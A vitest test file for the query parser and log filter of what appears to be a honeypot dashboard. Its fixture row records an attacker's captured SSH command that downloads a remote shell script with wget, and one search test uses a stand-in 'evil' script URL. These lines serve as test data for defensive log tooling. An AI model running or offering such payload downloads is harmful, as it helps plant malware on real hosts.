import { expect, it } from 'vitest';
import type { LogRow } from '../api/types';
import { matches, spell, terms, withoutTerm, withTerm } from './search';

const row: LogRow = {
  id: 1, event_uuid: 'u', timestamp: '2026-11-23T00:00:00Z', decky: 'local:web-01', service: 'ssh', event_type: 'command', attacker_ip: '192.0.2.7', src_port: 1, dst_port: 22, session_id: 's1',
  fields: { command: 'wget http://198.51.100.9/bins.sh', user: 'root', size: 12, syn: 'abcdef' }, msg: '192.0.2.7 ran wget',
};

it('reads the language as the server does', () => {
  for (const [text, expected] of [
    ['', []],
    ['  wget  curl ', [[null, 'wget'], [null, 'curl']]],
    ['service:ssh root', [['service', 'ssh'], [null, 'root']]],
    ['attacker-ip:2001:db8::1', [['attacker', '2001:db8::1']]],
    ['2001:db8::1', [[null, '2001:db8::1']]],
    ['http://evil/x.sh', [[null, 'http://evil/x.sh']]],
    ["principal:'ro ot' x", [['principal', 'ro ot'], [null, 'x']]],
    ['"key:value"', [[null, 'key:value']]],
    ['user-agent:x', [['user_agent', 'x']]],
    ['decky:local:web-01', [['decky', 'local:web-01']]],
    ['"open', [[null, 'open']]],
    ['a\\ b \\', [[null, 'a b']]],
    ['key:', [[null, 'key:']]],
  ] as [string, [string | null, string][]][]) {
    expect(terms(text).map((t) => [t.key, t.value]), text).toEqual(expected);
  }
});

it('filters live rows as the server would', () => {
  for (const [text, yes] of [
    ['', true], ['service:ssh event:command', true], ['service:http', false], ['decky:web-01', true], ['decky:local:web-01', true], ['decky:web-02', false], ['user:root', true], ['user:roo', false], ['size:12', true], ['port:22', true],
    ['wget', true], ['WGET', true], ['wge', false], ['wge*', true], ['198.51.100.9', true], ['bins', true], ['abcdef', false], ['session:s1', true], ['attacker:192.0.2.7 wget nothing', false], ['***', false],
  ] as [string, boolean][]) expect(matches(row, terms(text)), text).toBe(yes);
});

it('changes one term and keeps the rest', () => {
  expect(withTerm('wget service:ssh', 'service', 'telnet')).toBe('wget service:telnet');
  expect(withoutTerm('wget service:ssh', 'service')).toBe('wget');
  for (const term of [{ key: null, value: 'two words' }, { key: 'user', value: 'a"b\\c' }, { key: null, value: 'key:value' }, { key: null, value: '10.0.0.1:22' }]) expect(terms(spell(term)), spell(term)).toEqual([term]);
});
